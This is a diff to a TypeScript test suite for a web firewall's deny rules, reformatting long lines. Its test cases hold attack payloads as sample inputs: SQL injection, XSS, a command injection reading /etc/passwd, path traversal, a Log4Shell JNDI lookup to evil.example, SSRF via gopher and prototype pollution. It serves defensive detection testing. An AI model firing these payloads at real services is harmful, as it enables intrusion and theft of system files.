@@ -5,7 +5,8 @@ import { newDenyRules } from "./new-deny-rules.js";
 
 type Bundle = ReturnType<typeof buildBundle>;
 /** The middleware's config is the bundle plus its uninspected-content setting, as compile-route passes it. */
-const denyRulesFor = (bundle: Bundle, options: Parameters<typeof newDenyRules>[1]) => newDenyRules({ ...bundle, uninspected: bundle.limits.uninspected }, options);
+const denyRulesFor = (bundle: Bundle, options: Parameters<typeof newDenyRules>[1]) =>
+  newDenyRules({ ...bundle, uninspected: bundle.limits.uninspected }, options);
 
 const exceptionApp = {
   exceptions: [
@@ -53,13 +54,21 @@ describe("deny rules", () => {
     ["benign JSON", { method: "POST", url: "/api/items", body: '{"name":"widget","qty":3}', headers: { "content-type": "application/json" } }, null],
     ["SQL injection in the query", { url: "/search?q=1%27%20OR%201%3D1--" }, "sqli"],
     ["XSS in a JSON value", { method: "POST", url: "/c", body: '{"c":"<script>alert(1)</script>"}', headers: { "content-type": "application/json" } }, "xss"],
-    ["command injection in a form", { method: "POST", url: "/f", body: "host=127.0.0.1%3Bcat%20/etc/passwd", headers: { "content-type": "application/x-www-form-urlencoded" } }, "rce"],
+    [
+      "command injection in a form",
+      { method: "POST", url: "/f", body: "host=127.0.0.1%3Bcat%20/etc/passwd", headers: { "content-type": "application/x-www-form-urlencoded" } },
+      "rce",
+    ],
     ["path traversal", { url: "/download?file=../../../../etc/passwd" }, "lfi"],
     ["Log4Shell in a header", { url: "/", headers: { "x-api-version": "${jndi:ldap://evil.example/a}" } }, "java"],
     ["PHP wrapper", { url: "/?page=php://filter/resource=index" }, "php"],
     ["SSRF to an internal host by name", { url: "/fetch?url=gopher://localhost:6379/_INFO" }, "ssrf"],
     ["scanner user agent", { url: "/", headers: { "user-agent": "sqlmap/1.7" } }, "scanner"],
-    ["prototype pollution (engine family generic, policy family rce)", { method: "POST", url: "/", body: '{"__proto__":{"admin":true}}', headers: { "content-type": "application/json" } }, "generic"],
+    [
+      "prototype pollution (engine family generic, policy family rce)",
+      { method: "POST", url: "/", body: '{"__proto__":{"admin":true}}', headers: { "content-type": "application/json" } },
+      "generic",
+    ],
   ])("%s", (_name, init, family) => {
     const { verdict } = verdictOf(baseline, init);
     expect(verdict?.family ?? null).toBe(family);
@@ -99,7 +108,9 @@ describe("deny rules", () => {
     });
 
     it("the Log4Shell virtual patch blocks JNDI lookups even where an exception covers java", () => {
-      expect(verdictOf(at("2026-06-01T00:00:00Z"), { url: "/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D" }).verdict).toMatchObject({ ruleId: "java.jndi-lookup" });
+      expect(verdictOf(at("2026-06-01T00:00:00Z"), { url: "/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D" }).verdict).toMatchObject({
+        ruleId: "java.jndi-lookup",
+      });
     });
 
     it("refuses a bundle whose exception names a rule the engine does not have", () => {
@@ -111,7 +122,9 @@ describe("deny rules", () => {
   });
 
   it("configures generic with rce's setting and session with xss's", () => {
-    const config = detectorConfigFor(buildBundle({ denyRules: { rce: { level: "strict", mode: "block" }, xss: { level: "basic", mode: "log-only" } } }).denyRules);
+    const config = detectorConfigFor(
+      buildBundle({ denyRules: { rce: { level: "strict", mode: "block" }, xss: { level: "basic", mode: "log-only" } } }).denyRules,
+    );
     expect(config.families.generic).toEqual({ level: "strict", mode: "block" });
     expect(config.families.session).toEqual({ level: "basic", mode: "log-only" });
   });
